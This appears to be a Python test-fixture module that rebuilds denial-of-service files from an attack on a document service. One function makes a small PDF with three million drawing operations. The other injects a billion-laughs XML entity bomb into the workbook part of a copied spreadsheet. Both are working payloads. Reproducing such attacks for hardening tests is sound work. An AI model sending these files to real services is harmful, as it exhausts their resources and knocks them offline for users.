"""Files the campaign against the service used: made here, small, each costly in its own way."""

from __future__ import annotations

import zipfile
from pathlib import Path

from pdf_files import one_page_pdf


def heavy_pdf() -> bytes:
    """A 131 KB PDF whose one page holds three million drawing operations (over 30 s for a renderer)."""
    return one_page_pdf(b"0 0 m 100 100 l S\n" * 3_000_000)


def _laugh(n: int) -> str:
    inner = f"&lol{n - 1};" if n > 2 else "&lol;"
    return f'<!ENTITY lol{n} "{inner * 10}">'


LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(_laugh(n) for n in range(2, 10)) + "]>"


def billion_laughs(ledger: Path, out: Path) -> Path:
    """A copy of a real ledger whose workbook part names its first sheet with a billion-laughs entity."""
    with zipfile.ZipFile(ledger) as source, zipfile.ZipFile(out, "w") as copy:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/workbook.xml":
                text = data.decode("utf-8").split("?>", 1)[-1]
                data = (LAUGHS + text.replace('name="辍学学生台账"', 'name="&lol9;"', 1)).encode("utf-8")
            copy.writestr(name, data)
    return out
